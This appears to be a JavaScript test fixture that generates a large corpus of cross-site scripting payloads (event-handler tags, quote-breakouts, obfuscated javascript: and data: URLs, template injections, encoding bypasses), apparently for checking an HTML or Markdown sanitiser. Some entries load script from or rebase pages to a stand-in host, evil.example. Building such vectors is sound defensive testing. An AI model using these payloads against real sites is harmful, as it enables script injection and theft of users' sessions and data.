/** Ways in which a text has become a program in some product or other; each calls `xss()` where it runs. */
const calls = 'xss()';

const tags = ['img src=x onerror', 'svg onload', 'body onload', 'iframe onload', 'input autofocus onfocus', 'video src=x onerror', 'audio src=x onerror', 'details open ontoggle',
  'select autofocus onfocus', 'textarea autofocus onfocus', 'marquee onstart', 'object data=x onerror', 'embed src=x onload', 'link rel=stylesheet href=x onerror', 'style onload',
  'a href=x onmouseover', 'math onmouseover', 'button onclick', 'form onsubmit', 'keygen autofocus onfocus', 'svg><animate onbegin', 'x onclick', 'div onpointerenter', 'track onerror'];
const quotes = [(tag) => `<${tag}=${calls}>`, (tag) => `<${tag}="${calls}">`, (tag) => `<${tag}='${calls}'>`, (tag) => `<${tag.toUpperCase()}=${calls}>`, (tag) => `<${tag}\n=\n${calls}//>`,
  (tag) => `"><${tag}=${calls}>`, (tag) => `'><${tag}=${calls}>`, (tag) => `</textarea><${tag}=${calls}>`, (tag) => `<<${tag}=${calls}>`, (tag) => `<${tag.replaceAll(' ', '/')}=${calls}>`,
  (tag) => `-->\n<${tag}=${calls}>`];

const addresses = ['javascript:xss()', 'JaVaScRiPt:xss()', 'java\tscript:xss()', 'java\nscript:xss()', ' javascript:xss()', '\u0001javascript:xss()', 'javascript&colon;xss()', '&#106;avascript:xss()',
  'data:text/html,<script>xss()</script>', 'data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==', 'vbscript:xss()', 'blob:xss()', '//evil.example/x', 'javascript://%0axss()'];

const alone = ['<script>xss()</script>', '<SCRIPT>xss()</SCRIPT>', '<script/x>xss()</script>', '<scr<script>ipt>xss()</scr</script>ipt>', '<script src=//evil.example/x.js></script>',
  '{{ constructor.constructor("xss()")() }}', '{{$on.constructor("xss()")()}}', '${xss()}', '#{xss()}', '<%= xss() %>', '<template><script>xss()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=xss()>">', '<math><mtext></form><form><mglyph><style></math><img src onerror=xss()>', '<svg><style><img src=x onerror=xss()></style>',
  '<iframe srcdoc="<script>parent.xss()</script>">', '<meta http-equiv=refresh content="0;url=javascript:xss()">', '<base href=//evil.example/>', '<form action=javascript:xss()><button>x',
  '<object data=javascript:xss()>', '<isindex action=javascript:xss() type=image>', '\u2028<script>xss()</script>', '<!--<img src="--><img src=x onerror=xss()>', '<![CDATA[<script>xss()</script>]]>',
  '+ADw-script+AD4-xss()+ADw-/script+AD4-', '\uFF1Cscript\uFF1Exss()\uFF1C/script\uFF1E', '<style>@import"javascript:xss()"</style>', '<div style="width:expression(xss())">', '\u202E<script>xss()</script>'];

export const vectors = [
  ...alone,
  ...tags.flatMap((tag) => quotes.map((quote) => quote(tag))),
  ...addresses.map((address) => `<a href="${address}">x</a>`),
  ...addresses.map((address) => `[x](${address})`),
  ...addresses.map((address) => `![x](${address})`),
];
